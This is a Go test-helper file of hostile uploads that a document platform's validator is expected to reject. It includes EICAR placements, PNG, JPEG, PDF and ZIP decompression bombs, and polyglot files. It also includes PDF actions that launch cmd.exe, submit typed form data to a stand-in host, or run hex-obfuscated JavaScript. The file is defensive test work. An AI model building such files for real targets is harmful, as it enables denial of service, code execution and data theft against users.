package documenttest

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"strings"
)

// Hostile is a file that must be refused, quickly and with little memory.
type Hostile struct {
	What    string // for the name of a test
	Name    string // as the sender calls it
	Content func() []byte
	Want    string // key of the fault
}

// HostileFiles are the files people upload to harm the platform, its staff or other
// people, and those that just cannot be taken.
func HostileFiles() []Hostile {
	return append(append(viruses(), bombs()...), append(mixtures(), strangers()...)...)
}

func is(content []byte) func() []byte { return func() []byte { return content } }

func viruses() []Hostile {
	return []Hostile{
		{"EICAR", "eicar.com", EICAR, "document.infected"},
		{"EICAR as a photo", "a.jpg", EICAR, "document.infected"},
		{"EICAR behind a photo", "a.jpg", func() []byte { return append(Photo(1), EICAR()...) }, "document.infected"},
		{"EICAR behind a PDF", "a.pdf", func() []byte { return append(PDF(1), EICAR()...) }, "document.infected"},
		{"EICAR in a PDF's stream", "a.pdf", func() []byte { return streamPDF(string(EICAR()), "") }, "document.infected"},
		{"EICAR packed in a PDF's stream", "a.pdf", func() []byte { return streamPDF(Deflated(EICAR()), "/Filter /FlateDecode") }, "document.infected"},
		{"EICAR packed twice in a PDF", "a.pdf", func() []byte {
			return streamPDF(Deflated([]byte(Deflated(EICAR()))), "/Filter [/FlateDecode /FlateDecode]")
		}, "document.infected"},
		{"EICAR in hexadecimal in a PDF", "a.pdf", func() []byte {
			return streamPDF(fmt.Sprintf("%x>", EICAR()), "/Filter /ASCIIHexDecode")
		}, "document.infected"},
		{"EICAR in a ZIP", "a.zip", func() []byte { return Zipped("eicar.com", EICAR()) }, "document.archive"},
		{"EICAR in base64", "a.pdf", func() []byte { return []byte(base64.StdEncoding.EncodeToString(EICAR())) }, "document.disguised"},
	}
}

func bombs() []Hostile {
	return []Hostile{
		{"a PNG of 30,000 × 30,000 pixels", "a.png", func() []byte { return BombPNG(30_000) }, "document.pixels"},
		{"a whole PNG of one colour, 30,000 × 30,000", "a.png", OneColourPNG, "document.pixels"},
		{"a JPEG that claims 30,000 × 30,000", "a.jpg", func() []byte { return BombJPEG(30_000) }, "document.pixels"},
		{"a PNG with more data than pixels", "a.png", OverfullPNG, "document.damaged"},
		{"a JPEG of a thousand scans", "a.jpg", func() []byte { return append(Photo(1), strings.Repeat("\xff\xda", 1000)...) }, "document.damaged"},
		{"a PDF's stream that unpacks to 1 GB", "a.pdf", func() []byte {
			return streamPDF(Deflated([]byte(Deflated(make([]byte, 300<<20)))), "/Filter [/FlateDecode /FlateDecode]")
		}, "document.pdf.complex"},
		{"a PDF's stream packed ten times", "a.pdf", func() []byte {
			return streamPDF(Deflated([]byte("x")), "/Filter ["+strings.Repeat("/FlateDecode ", 10)+"]")
		}, "document.pdf.complex"},
		{"a PDF with a picture of 30,000 × 30,000", "a.pdf", func() []byte {
			return streamPDF("x", "/Subtype /Image /Width 30000 /Height 30000 /Filter /FlateDecode")
		}, "document.pdf.complex"},
		{"a PDF nested a thousand deep", "a.pdf", func() []byte {
			return pdf(1, "/X "+strings.Repeat("[", 1000)+strings.Repeat("]", 1000))
		}, "document.pdf.damaged"},
		{"a ZIP bomb", "a.zip", func() []byte { return Zipped("0", make([]byte, 64<<20)) }, "document.archive"},
	}
}

func mixtures() []Hostile {
	zipped := func() []byte { return Zipped("evil.js", []byte("alert(1)")) }
	return []Hostile{
		{"a PDF that is a ZIP", "a.pdf", func() []byte { return append(PDF(1), zipped()...) }, "document.mixed"},
		{"a PDF behind a ZIP", "a.pdf", func() []byte { return append(zipped(), PDF(1)...) }, "document.archive"},
		{"a PDF behind other things", "a.pdf", func() []byte { return append([]byte("\x01\x02junk"), PDF(1)...) }, "document.pdf.damaged"},
		{"a photo that is a ZIP", "a.jpg", func() []byte { return append(Photo(1), zipped()...) }, "document.mixed"},
		{"a photo that is a page", "a.jpg", func() []byte { return append(Photo(1), HTML()...) }, "document.mixed"},
		{"a photo that is a PDF", "a.jpg", func() []byte { return append(Photo(1), PDF(1)...) }, "document.mixed"},
		{"a page in a photo's comment", "a.jpg", CommentJPEG, "document.mixed"},
		{"a GIF that is a script", "a.jpg", GIFScript, "document.picture"},
		{"HTML as a PDF", "a.pdf", HTML, "document.disguised"},
		{"HTML as a JPEG", "a.jpg", HTML, "document.disguised"},
		{"an SVG with a script", "a.svg", SVG, "document.type"},
		{"an SVG as a PNG", "a.png", SVG, "document.disguised"},
		{"a PDF that runs a script", "a.pdf", ScriptPDF, "document.pdf.script"},
		{"a PDF that starts a program", "a.pdf", func() []byte { return pdf(1, `/OpenAction << /S /Launch /F (cmd.exe) >>`) }, "document.pdf.action"},
		{"a PDF that sends what is typed", "a.pdf", func() []byte { return pdf(1, `/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>`) }, "document.pdf.action"},
		{"a PDF with a file inside", "a.pdf", func() []byte { return pdf(1, `/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>`) }, "document.pdf.attachment"},
		{"a PDF with a live form", "a.pdf", func() []byte { return pdf(1, "/AcroForm << /XFA [] >>") }, "document.pdf.form"},
		{"a PDF whose script is spelled otherwise", "a.pdf", func() []byte {
			return pdf(1, `/OpenAction << /S /#4aavaScript /J#53 (app.alert\(1\)) >>`)
		}, "document.pdf.script"},
		{"an encrypted PDF", "a.pdf", func() []byte { return bytes.Replace(PDF(1), []byte("/Root"), []byte("/Encrypt 9 0 R /Root"), 1) }, "document.pdf.encrypted"},
	}
}

func strangers() []Hostile {
	return []Hostile{
		{"nothing", "a.jpg", is(nil), "document.empty"},
		{"half a photo", "a.jpg", Truncated, "document.damaged"},
		{"the head of a photo", "a.jpg", func() []byte { return Photo(1)[:20] }, "document.damaged"},
		{"half a PDF", "a.pdf", func() []byte { return PDF(9)[:700] }, "document.pdf.damaged"},
		{"a PDF without pages", "a.pdf", func() []byte { return PDF(0) }, "document.pdf.damaged"},
		{"a PDF of 201 pages", "a.pdf", func() []byte { return PDF(201) }, "document.pdf.pages"},
		{"HEIC", "IMG_1.HEIC", HEIC, "document.heic"},
		{"HEIC as a JPEG", "IMG_1.jpg", HEIC, "document.heic"},
		{"TIFF", "a.tif", is([]byte("II*\x00\x08\x00\x00\x00\x00\x00")), "document.picture"},
		{"WebP", "a.webp", is([]byte("RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00")), "document.picture"},
		{"AVIF", "a.avif", is([]byte("\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf")), "document.picture"},
		{"BMP", "a.bmp", is(append([]byte("BM\x46\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28"), make([]byte, 64)...)), "document.picture"},
		{"a Word file with macros", "a.docm", func() []byte {
			return ZippedOf("[Content_Types].xml", "<Types/>", "word/document.xml", "<w/>", "word/vbaProject.bin", "macro")
		}, "document.office"},
		{"an old Word file", "a.doc", func() []byte { return append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 1024)...) }, "document.office"},
		{"a Word file as a PDF", "a.pdf", func() []byte {
			return ZippedOf("[Content_Types].xml", "<Types/>", "word/document.xml", "<w/>")
		}, "document.office"},
		{"RTF", "a.rtf", is([]byte(`{\rtf1\ansi hello}`)), "document.office"},
		{"a program", "a.exe", is(append([]byte("MZ\x90\x00"), make([]byte, 128)...)), "document.program"},
		{"a program as a photo", "photo.jpg.exe", is(append([]byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00"), make([]byte, 64)...)), "document.program"},
		{"a RAR", "a.rar", is([]byte("Rar!\x1a\x07\x01\x00\x00\x00")), "document.archive"},
		{"text", "a.txt", is([]byte("hello")), "document.type"},
		{"zeros", "a.jpg", is(make([]byte, 1<<20)), "document.disguised"},
	}
}

// streamPDF is a document of one page whose content is a stream with more entries.
func streamPDF(content, entries string) []byte {
	whole := pdf(1, "")
	object := fmt.Sprintf("9 0 obj\n<< /Length %d %s >>\nstream\n%s\nendstream\nendobj\n", len(content), entries, content)
	at := bytes.Index(whole, []byte("xref\n"))
	return append(append(bytes.Clone(whole[:at]), object...), whole[at:]...)
}

// Deflated packs content as PDF and PNG do.
func Deflated(content []byte) string {
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	_, _ = z.Write(content) // a Buffer takes everything
	_ = z.Close()
	return b.String()
}

// Zipped returns an archive with one file.
func Zipped(name string, content []byte) []byte { return ZippedOf(name, string(content)) }

// ZippedOf returns an archive of names and contents by turns.
func ZippedOf(files ...string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i < len(files); i += 2 {
		f, _ := w.Create(files[i]) // a Buffer takes everything
		_, _ = f.Write([]byte(files[i+1]))
	}
	_ = w.Close()
	return b.Bytes()
}

// OneColourPNG is a whole, valid picture of one colour with 30,000 × 30,000 pixels of
// one bit, about 110 KB.
func OneColourPNG() []byte {
	const side = 30_000
	row := make([]byte, 1+side/8+1)
	var data bytes.Buffer
	z := zlib.NewWriter(&data)
	for range side {
		_, _ = z.Write(row) // a Buffer takes everything
	}
	_ = z.Close()
	return pngOf(side, side, 1, 0, data.Bytes())
}

// OverfullPNG says that it has one pixel and holds data for a hundred million.
func OverfullPNG() []byte { return pngOf(1, 1, 8, 2, []byte(Deflated(make([]byte, 100<<20)))) }

// pngOf writes a PNG of the given depth and colour type.
func pngOf(width, height uint32, depth, colour byte, data []byte) []byte {
	out := []byte("\x89PNG\r\n\x1a\n")
	header := binary.BigEndian.AppendUint32(nil, width)
	header = binary.BigEndian.AppendUint32(header, height)
	header = append(header, depth, colour, 0, 0, 0)
	for _, chunk := range []struct {
		kind string
		data []byte
	}{{"IHDR", header}, {"IDAT", data}, {"IEND", nil}} {
		body := append([]byte(chunk.kind), chunk.data...)
		out = binary.BigEndian.AppendUint32(out, uint32(len(chunk.data)))
		out = append(out, body...)
		out = binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(body))
	}
	return out
}

// BombJPEG is a photo whose header claims side × side pixels.
func BombJPEG(side uint16) []byte {
	photo := Photo(1)
	at := bytes.Index(photo, []byte{0xff, 0xc0}) + 5 // marker, length, depth
	binary.BigEndian.PutUint16(photo[at:], side)
	binary.BigEndian.PutUint16(photo[at+2:], side)
	return photo
}

// CommentJPEG is a photo with a page in its comment.
func CommentJPEG() []byte {
	comment := append([]byte{0xff, 0xfe, 0, byte(2 + len(HTML()))}, HTML()...)
	photo := Photo(1)
	return bytes.Join([][]byte{photo[:2], comment, photo[2:]}, nil)
}
